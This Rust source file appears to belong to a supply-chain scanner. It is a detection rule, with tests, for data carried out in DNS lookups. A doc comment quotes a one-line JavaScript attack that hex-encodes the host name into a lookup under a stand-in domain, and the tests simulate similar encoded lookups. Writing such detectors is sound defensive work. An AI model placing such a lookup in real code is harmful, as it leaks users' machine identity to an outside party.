//! **What.** Names are looked up that carry data: a planted secret, the user or host name, or long encoded labels below one
//! domain.
//!
//! **Why.** A lookup passes where connections are blocked, and whoever answers for the domain reads the labels. Call-back
//! services make this the usual proof of a dependency-confusion attack.
//!
//! **Example.** ``dns.lookup(`${Buffer.from(os.hostname()).toString('hex')}.c.example`, () => {})``
//!
//! **Benign look-alike.** A client looks up the sharded names of its own service, `_http._tcp` services, or the machine's
//! own name; content networks have one long label.
//!
//! Since 0.1.0.

use super::outgoing::{Outgoing, Via};
use super::{Confidence, Finding, Meta, Reach, Rule, Severity, View};
use crate::trace::{Event, Kind};
use std::collections::BTreeSet;

/// The rule.
#[derive(Debug)]
pub(super) struct Check;

/// A label of this length is not typed by people.
const LONG: usize = 24;
/// So many encoded labels below one domain are a transfer.
const MANY: usize = 3;
/// A shorter fact is found by chance.
const FACT: usize = 5;
/// Domains of local networks: names below them are the machine and its neighbours.
const LOCAL: &[&str] = &[
    "local",
    "lan",
    "internal",
    "home",
    "localdomain",
    "corp",
    "arpa",
];

impl Rule for Check {
    const META: Meta = Meta {
        id: "dns-exfiltration",
        title: "Data is carried out in DNS names",
        severity: Severity::Critical,
        confidence: Confidence::High,
        technique: "T1048.003",
        phases: &[],
    };

    fn check(view: &View<'_>) -> Vec<Finding> {
        let facts = facts(view);
        let outgoing = view.outgoing().iter().enumerate();
        outgoing
            .filter(|(_, out)| out.via == Via::Dns && out.reach != Reach::Registry)
            .filter(|(_, out)| !LOCAL.contains(&out.host.rsplit('.').next().unwrap_or_default()))
            .filter_map(|(index, out)| judge(view, index, out, &facts))
            .collect()
    }
}

fn judge(
    view: &View<'_>,
    index: usize,
    out: &Outgoing<'_>,
    facts: &BTreeSet<String>,
) -> Option<Finding> {
    let finding = |events: &[&Event], detail: String| Check::META.finding(view, events, detail);
    let secret = view
        .leaks()
        .iter()
        .find(|leak| leak.outgoing == index && !leak.allowed);
    if let Some(leak) = secret {
        let detail = format!(
            "{} is in the names looked up below {}",
            leak.decoy.name, out.host
        );
        return Some(finding(&out.events, detail));
    }
    if let Some((fact, encoding)) = fact_in(out, facts) {
        let disguise = match encoding {
            "" => String::new(),
            encoding => format!(", disguised by {encoding}"),
        };
        let detail = format!(
            "{fact} of this machine is in the names looked up below {}{disguise}",
            out.host
        );
        return Some(finding(&out.events, detail).graded(Severity::High, Confidence::High));
    }
    let carrying: Vec<&Event> = out
        .events
        .iter()
        .copied()
        .filter(|event| carries(&event.subject, &out.host))
        .collect();
    let names: BTreeSet<&str> = carrying
        .iter()
        .map(|event| event.subject.as_str())
        .collect();
    let detail = format!(
        "{} long encoded names are looked up below {}",
        names.len(),
        out.host
    );
    match (names.len(), out.reach) {
        (0, _) | (1..MANY, Reach::Own) => None,
        (1..MANY, _) => {
            Some(finding(&carrying, detail).graded(Severity::Medium, Confidence::Medium))
        }
        (_, Reach::Own) => {
            Some(finding(&carrying, detail).graded(Severity::Medium, Confidence::High))
        }
        _ => Some(finding(&carrying, detail).graded(Severity::High, Confidence::High)),
    }
}

/// What identifies the machine and its user: the names that the package asked for, and the user's name, which is also in
/// the path of the package.
fn facts(view: &View<'_>) -> BTreeSet<String> {
    let identity = |subject: &str| {
        ["host", "user", "home"]
            .iter()
            .any(|word| subject.to_lowercase().contains(word))
    };
    let asked = view
        .of(Kind::HostQuery)
        .iter()
        .filter(|event| identity(&event.subject));
    let answers = asked.filter_map(|event| event.detail.get("value"));
    answers
        .chain(view.places().homes())
        .flat_map(|text| {
            text.split(|c: char| !c.is_alphanumeric() && !matches!(c, '-' | '_' | '.'))
        })
        .filter(|word| {
            word.len() >= FACT
                && !matches!(
                    *word,
                    "linux" | "Users" | "local" | "username" | "homedir" | "shell"
                )
        })
        .map(str::to_lowercase)
        .collect()
}

/// The first fact that the names hold, and how it was encoded.
fn fact_in<'o>(out: &'o Outgoing<'_>, facts: &BTreeSet<String>) -> Option<(String, &'o str)> {
    out.layers.iter().find_map(|layer| {
        let text = String::from_utf8_lossy(&layer.bytes).to_lowercase();
        let fact = facts.iter().find(|fact| text.contains(fact.as_str()))?;
        Some((fact.clone(), layer.encoding.as_str()))
    })
}

/// Whether a name has a long label below its domain that looks encoded.
fn carries(name: &str, parent: &str) -> bool {
    let length = name
        .trim_end_matches('.')
        .len()
        .saturating_sub(parent.len());
    let labels = name.get(..length).unwrap_or_default().split('.');
    labels
        .into_iter()
        .any(|label| label.len() >= LONG && is_encoded(label))
}

/// Whether a label looks like hexadecimal, base32 or base64 rather than like words.
fn is_encoded(label: &str) -> bool {
    let bytes = label.as_bytes();
    let digits = bytes.iter().filter(|b| b.is_ascii_digit()).count();
    let kinds: BTreeSet<u8> = bytes.iter().copied().collect();
    let hyphens = bytes.iter().filter(|b| **b == b'-').count();
    let upper =
        bytes.iter().any(u8::is_ascii_uppercase) && bytes.iter().any(u8::is_ascii_lowercase);
    let mixed = digits * 8 >= bytes.len() || upper && digits > 0;
    mixed && kinds.len() >= 8 && hyphens * 8 < bytes.len()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::TraceBuilder;

    #[test]
    fn an_encoded_host_name_is_found() {
        let mut builder = TraceBuilder::new();
        let query = builder.event(Kind::HostQuery, "hostname");
        builder.detail(query, "value", "build-host-7");
        let label: String = b"build-host-7".iter().map(|b| format!("{b:02x}")).collect();
        builder
            .at("a.js", 3)
            .event(Kind::NetDns, &format!("{label}.oast.example"));
        let found = builder.check::<Check>();
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].severity, Severity::High);
        assert_eq!(found[0].at.as_ref().map(|at| at.line), Some(3));
    }

    #[test]
    fn a_transfer_in_many_long_labels_is_found() {
        let mut builder = TraceBuilder::new();
        for n in 0..3 {
            builder.event(
                Kind::NetDns,
                &format!("{n}f00dfeed0123456789abcdefcafe42{n}.c.example"),
            );
        }
        assert_eq!(builder.check::<Check>().len(), 1);
    }

    #[test]
    fn ordinary_names_are_quiet() {
        let mut builder = TraceBuilder::new();
        for name in [
            "img-1.cdn.tool.example",
            "img-2.cdn.tool.example",
            "_http._tcp.tool.example",
            "a-very-long-but-readable-service-name.tool.example",
            "d1a2b3c4d5e6f7.cloud.example",
            "app.local",
        ] {
            builder.event(Kind::NetDns, name);
        }
        assert_eq!(builder.check::<Check>(), []);
    }
}
